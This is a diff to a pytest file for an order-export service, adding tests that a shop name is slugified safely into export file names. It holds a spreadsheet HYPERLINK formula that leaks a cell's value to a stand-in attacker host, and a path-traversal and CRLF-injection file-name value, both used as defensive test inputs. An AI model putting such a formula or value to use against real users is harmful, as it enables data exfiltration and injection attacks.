@@ -9,7 +9,7 @@ import pytest
 from openpyxl import load_workbook
 
 from orders.services import exports
-from orders.services.exports import EXPORT_FAILED_ILLEGAL_CHARACTER, csv_chunks, xlsx_file_write
+from orders.services.exports import EXPORT_FAILED_ILLEGAL_CHARACTER, csv_chunks, export_file_name, xlsx_file_write
 
 HEADERS = ["order_id", "customer_id", "unit_price", "order_date", "source_line"]
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -88,3 +88,16 @@ def test_xlsx_of_no_rows_has_the_header():
     sheet = load_workbook(xlsx_file_write(headers=HEADERS, rows=[])).active
 
     assert [cell.value for cell in sheet[1]] == HEADERS and sheet.max_row == 1
+
+
+@pytest.mark.parametrize(("shop_name", "first", "last", "extension", "expected"), [
+    (None, date(2024, 1, 1), date(2024, 3, 31), "csv", "orders_2024-01-01_2024-03-31.csv"),
+    ("", date(2024, 1, 1), date(2024, 3, 31), "xlsx", "orders_2024-01-01_2024-03-31.xlsx"),
+    ("Corner Shop", date(2024, 1, 1), date(2024, 1, 1), "csv", "corner-shop_2024-01-01_2024-01-01.csv"),
+    ("Café Ünïque & Co", date(2024, 1, 1), date(2024, 3, 31), "csv", "cafe-unique-co_2024-01-01_2024-03-31.csv"),
+    # Nothing of the name survives (no Latin letter or digit, or a path): the default, never an odd name.
+    ("東京 ストア", None, None, "csv", "orders.csv"),
+    ('../"evil";\r\n', date(2024, 1, 1), None, "csv", "evil_2024-01-01.csv"),
+])
+def test_export_file_name_is_the_shops_slug_and_the_range(shop_name, first, last, extension, expected):
+    assert export_file_name(shop_name=shop_name, first=first, last=last, extension=extension) == expected
